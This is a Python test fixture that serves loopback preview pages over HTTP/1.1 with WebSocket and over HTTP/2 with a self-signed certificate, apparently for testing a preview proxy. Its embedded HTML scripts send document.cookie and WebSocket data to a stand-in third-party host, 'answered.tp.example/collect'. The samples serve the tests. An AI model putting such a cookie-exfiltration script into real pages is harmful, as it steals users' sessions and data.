"""Preview origins on loopback for the tests: plain HTTP/1.1, and HTTP/2 over TLS with a self-signed certificate."""

import asyncio
import gzip
import ssl
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer

import trustme
from h2.config import H2Configuration
from h2.connection import H2Connection
from h2.events import DataReceived, RequestReceived, StreamEnded
from wsproto import ConnectionType, WSConnection
from wsproto.events import AcceptConnection, CloseConnection, TextMessage

PAGE = b"""<!doctype html><title>Preview</title><h1>Preview</h1>
<script>
  fetch('/api/who', { method: 'POST', body: 'kind=api' }).then((answer) => answer.text()).then((text) => {
    const body = text + ';' + document.cookie;
    fetch('https://answered.tp.example/collect', { method: 'POST', mode: 'no-cors', body });
  });
</script>
"""


LIVE = b"""<!doctype html><title>Live</title>
<script>
  const socket = new WebSocket(`ws://${location.host}/live`);
  socket.onopen = () => socket.send('hello');
  socket.onmessage = ({ data }) => navigator.sendBeacon('https://answered.tp.example/collect', data);
</script>
"""


class _Preview(BaseHTTPRequestHandler):
    protocol_version = "HTTP/1.1"

    def do_GET(self) -> None:
        """Redirect with a cookie, then give a compressed page."""
        if self.path == "/":
            self.send_response(302)
            self.send_header("Location", "/home")
            self.send_header("Set-Cookie", "session=made-by-preview; Path=/")
            self.send_header("Content-Length", "0")
            self.end_headers()
            return
        if self.path == "/live":
            self._echo()
            return
        body = gzip.compress(LIVE if self.path == "/with-live" else PAGE)
        self.send_response(200)
        self.send_header("Content-Type", "text/html")
        self.send_header("Content-Encoding", "gzip")
        self.send_header("Transfer-Encoding", "chunked")
        self.end_headers()
        self.wfile.write(b"%x\r\n%s\r\n0\r\n\r\n" % (len(body), body))

    def _echo(self) -> None:
        """Speak WebSocket: say what is heard, after a word of our own, until the page has gone."""
        conversation = WSConnection(ConnectionType.SERVER)
        headers = [(name.encode(), value.encode()) for name, value in self.headers.items()]
        conversation.initiate_upgrade_connection(headers, self.path)
        self.close_connection = True
        for _ in conversation.events():
            self.wfile.write(conversation.send(AcceptConnection()))
        while data := self.connection.recv(65536):
            conversation.receive_data(data)
            for event in conversation.events():
                if isinstance(event, TextMessage):
                    self.wfile.write(conversation.send(TextMessage(data=f"the preview heard {event.data}")))
                elif isinstance(event, CloseConnection):
                    return

    def do_POST(self) -> None:
        """Give back what was sent, and the cookie that came with it."""
        sent = self.rfile.read(int(self.headers["Content-Length"]))
        body = b"sent=" + sent + b";cookie=" + self.headers.get("Cookie", "none").encode()
        self.send_response(200)
        self.send_header("Content-Length", str(len(body)))
        self.end_headers()
        self.wfile.write(body)

    def log_message(self, format: str, *args: object) -> None:  # noqa: A002 -- the name is the base class's
        """Say nothing."""


@contextmanager
def http1_preview() -> Iterator[str]:
    """Serve the preview over HTTP/1.1 and give its origin."""
    server = ThreadingHTTPServer(("127.0.0.1", 0), _Preview)
    thread = threading.Thread(target=server.serve_forever)
    thread.start()
    try:
        yield f"http://127.0.0.1:{server.server_port}"
    finally:
        server.shutdown()
        thread.join()
        server.server_close()


@contextmanager
def http2_preview() -> Iterator[str]:
    """Serve the preview over HTTP/2 alone, with a certificate that nobody trusts, and give its origin."""
    loop = asyncio.new_event_loop()
    context = ssl.SSLContext(ssl.PROTOCOL_TLS_SERVER)
    trustme.CA().issue_cert("127.0.0.1").configure_cert(context)
    context.set_alpn_protocols(["h2"])
    server = loop.run_until_complete(asyncio.start_server(_http2, "127.0.0.1", 0, ssl=context))
    thread = threading.Thread(target=loop.run_forever)
    thread.start()
    try:
        yield f"https://127.0.0.1:{server.sockets[0].getsockname()[1]}"
    finally:
        loop.call_soon_threadsafe(loop.stop)
        thread.join()
        server.close()
        loop.run_until_complete(_end_all())
        loop.close()


async def _end_all() -> None:
    tasks = asyncio.all_tasks() - {asyncio.current_task()}
    for task in tasks:
        task.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    await asyncio.sleep(0.05)


async def _http2(reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
    conversation = H2Connection(H2Configuration(client_side=False, header_encoding="utf-8"))
    conversation.initiate_connection()
    writer.write(conversation.data_to_send())
    asked: dict[int, dict[str, str]] = {}
    bodies: dict[int, bytes] = {}
    try:
        while data := await reader.read(65536):
            for event in conversation.receive_data(data):
                if isinstance(event, RequestReceived):
                    asked[event.stream_id] = {str(name): str(value) for name, value in event.headers}
                elif isinstance(event, DataReceived):
                    bodies[event.stream_id] = bodies.get(event.stream_id, b"") + event.data
                    conversation.acknowledge_received_data(event.flow_controlled_length, event.stream_id)
                elif isinstance(event, StreamEnded):
                    head = asked[event.stream_id]
                    if head[":path"] == "/":
                        found = [(":status", "302"), ("location", "/home"), ("set-cookie", "session=made-by-preview")]
                        body = b""
                    elif head[":method"] == "POST":
                        found = [(":status", "200")]
                        sent = bodies.get(event.stream_id, b"")
                        body = b"sent=" + sent + b";cookie=" + head.get("cookie", "none").encode()
                    else:
                        found = [(":status", "200"), ("content-type", "text/html"), ("content-encoding", "gzip")]
                        body = gzip.compress(PAGE)
                    conversation.send_headers(event.stream_id, found)
                    conversation.send_data(event.stream_id, body, end_stream=True)
            writer.write(conversation.data_to_send())
    finally:
        writer.close()
